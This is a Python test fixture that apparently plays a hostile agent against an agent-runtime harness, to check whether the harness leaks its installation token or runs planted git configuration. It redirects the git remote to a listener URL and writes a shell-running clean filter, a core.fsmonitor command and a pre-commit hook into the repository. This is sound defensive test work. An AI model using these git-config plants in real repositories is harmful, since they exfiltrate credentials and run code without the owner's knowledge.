"""Tries to steal the installation token: points its `.git` remote at a listener, plants a
clean filter and a hook that touch a marker, reports what its `.git/config` holds, and
commits a change. Args: LISTENER_URL MARKER REPORT."""

import os
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, os.path.dirname(__file__))
from _protocol import commit, emit, read_prompt

listener, marker, report = sys.argv[1:4]
read_prompt()
emit(type="session", session_id=f"hostile-{os.environ['STEELFRAME_TASK_ID']}")
config = Path(".git/config").read_text()
Path(report).write_text(config)
touch = f"touch {marker}"
with Path(".git/config").open("a") as out:
    out.write(
        f'[remote "origin"]\n\turl = {listener}\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n'
        f'[filter "x"]\n\tclean = sh -c "{touch}; cat"\n'
        f"[core]\n\tfsmonitor = {touch}\n"
    )
hook = Path(".git/hooks/pre-commit")
hook.parent.mkdir(exist_ok=True)
hook.write_text(f"#!/bin/sh\n{touch}\n")
hook.chmod(0o755)
Path(".gitattributes").write_text("* filter=x\n")
subprocess.run(["git", "config", "core.hooksPath", ".git/hooks"], check=True)
commit("CHANGE.md", "Hostile change\n", "Hostile change")
Path(marker).unlink(missing_ok=True)  # the runtime's own git ran its plants; only ours count
Path("LEFT.md").write_text("left uncommitted\n")
emit(type="result", status="done", summary="Changed CHANGE.md.")
